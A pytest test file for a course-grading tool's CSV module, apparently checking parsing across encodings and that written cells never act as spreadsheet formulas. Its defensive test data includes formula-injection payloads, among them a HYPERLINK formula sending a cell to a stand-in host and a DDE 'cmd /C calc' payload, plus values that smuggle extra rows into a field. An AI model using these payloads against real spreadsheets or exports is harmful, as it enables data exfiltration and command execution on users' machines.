"""Tables: read as programs write them, written so that no spreadsheet runs a cell."""

import csv

import pytest

from grader.course import CourseError
from grader.tables import LARGEST, harmless, read_table, write_table

ROWS = [["id", "name"], ["ann", "Ann Lée"], ["bo", "Li, Bo"]]


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        ('id,name\nann,Ann Lée\nbo,"Li, Bo"\n', "utf-8"),
        ('id,name\r\nann,Ann Lée\r\n\r\nbo,"Li, Bo"', "utf-8-sig"),
        ("id;name\nann;Ann Lée\nbo;Li, Bo\n", "cp1252"),
        ("id\tname\nann\tAnn Lée\n\t\nbo\tLi, Bo\n", "utf-16"),
        ("sep=;\nid;name\nann;Ann Lée\nbo;Li, Bo\n", "utf-8"),
        ('"id","name"\n"ann","  Ann\u200b\nLée "\nbo,"Li, Bo"\n', "utf-8"),
    ],
)
def test_a_table_is_read_as_programs_write_it(tmp_path, text, encoding):
    (tmp_path / "x.csv").write_bytes(text.encode(encoding))
    assert [row for row in read_table(tmp_path / "x.csv") if row] == ROWS


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"PK\x03\x04rest", "save the table as CSV"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not text"),
        (b"i\x00d\x00,\x00", "not text"),
        (b'id,name\nann,"Ann\n', "no CSV file"),
        (b"x" * (LARGEST + 1), "more than 32 MB, the most of them in row 1:"),
        (b"id\nann\n" + b"x" * LARGEST, "in row 3: .*the text of one cell has to be cut"),
        (b"\n" * 60_000, "too many lines"),
        (b"," * 600_000, "too many lines or cells"),
    ],
)
def test_other_files_are_refused(tmp_path, content, words):
    (tmp_path / "x.csv").write_bytes(content)
    with pytest.raises(CourseError, match=words):
        read_table(tmp_path / "x.csv")


def test_a_long_cell_costs_no_table(tmp_path):
    (tmp_path / "x.csv").write_text(f"id,text\nann,{'x' * 140_000}\nbo,y\n")
    assert [(row[0], len(row[1])) for row in read_table(tmp_path / "x.csv")[1:]] == [
        ("ann", 140_000),
        ("bo", 1),
    ]


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "Ann;=1+1;x",
    "Ann,=1+1",
    "Ann\t=1+1",
    'Ann";=1+1',
    'Ann"=1+1',
    "Ann\n=1+1",
    "Ann; \u200b =1+1",
    "=1;=2",
    '= HYPERLINK("http://x.example/?"&A2,"Click")',
    "\uff1d 1+1",
    "= cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", None])
def test_no_cell_is_a_formula(tmp_path, text, delimiter):
    """Whatever a program takes for the separator, and whether or not it knows quotes."""
    path = write_table(tmp_path / "x.csv", ["name"], [[text, 1]])
    lines = path.read_text("utf-8").splitlines()
    if delimiter is None:
        cells = [cell for line in lines for cell in line.replace('"', ";").split(";")]
    else:
        cells = [cell for row in csv.reader(lines, delimiter=delimiter) for cell in row]
    seen = [cell.strip().lstrip('"').strip() for cell in cells]
    assert not [cell for cell in seen if cell[:1] in "=+-@\uff1d\uff0b\uff0d\uff20\ufe66" and cell]


@pytest.mark.parametrize(
    "value",
    [
        *(1, 2.5, -1, "1.5", "-1,5", "+3", ""),
        *("Ann-Marie O'Neil", "a=b", "x@y.example", "Lee, Ann", "-", "1201"),
    ],
)
def test_numbers_and_names_stay_what_they_are(value):
    assert harmless(value) == value


@pytest.mark.parametrize(
    "name", ["-Ann", "=Bo", "Lee, -Ann", "@home", "+1 Lee", "O'Neil", "'quoted'"]
)
def test_names_survive_the_way_out_and_in(tmp_path, name):
    path = write_table(tmp_path / "x.csv", ["name"], [[name, "x"]])
    assert read_table(path)[1][0] == name


def test_what_is_not_seen_is_not_written():
    assert harmless("Ann\x1b[31m\nLee\x00\u202e") == "Ann [31m Lee"


def php(text):
    r"""Write a cell as PHP does, and so Moodle: a " behind a \ is not doubled."""
    out, escaped = "", False
    for letter in text:
        out += '""' if letter == '"' and not escaped else letter
        escaped = letter == "\\"
    return f'"{out}"'


TYPED = [
    'print("a\\"b")',
    'x\\",-\nParticipant 1001,Ann Lee,30 December 2026 9:00 PM',
    'x\\",18,"y',
    '\\"\\"',
    'x"\\""y',
    "C:\\",
]


@pytest.mark.parametrize("text", TYPED)
def test_what_a_student_typed_makes_no_cells(tmp_path, text):
    """Neither in a worksheet of Moodle's nor in one that is written for it."""
    path = tmp_path / "x.csv"
    path.write_text(f'Identifier,name,grade\n"Participant 1003",{php(text)},-\n', "utf-8")
    assert read_table(path)[1] == ["Participant 1003", " ".join(text.split()), "-"]
    for row in ([text, 1], [1, text]):
        write_table(path, ["a", "b"], [row])
        written = path.read_text("utf-8").splitlines()[1]
        assert '\\"' not in written
        assert not written.endswith("\\")


def test_a_table_that_can_be_read_in_two_ways_is_refused(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text('a,b\n"x\\",y\n"z",w\n', "utf-8")
    assert read_table(path)[1:] == [["x\\", "y"], ["z", "w"]]
    path.write_text('a,b\n"x\\",y\n",",z"\n', "utf-8")
    with pytest.raises(CourseError, match="no CSV file"):
        read_table(path)
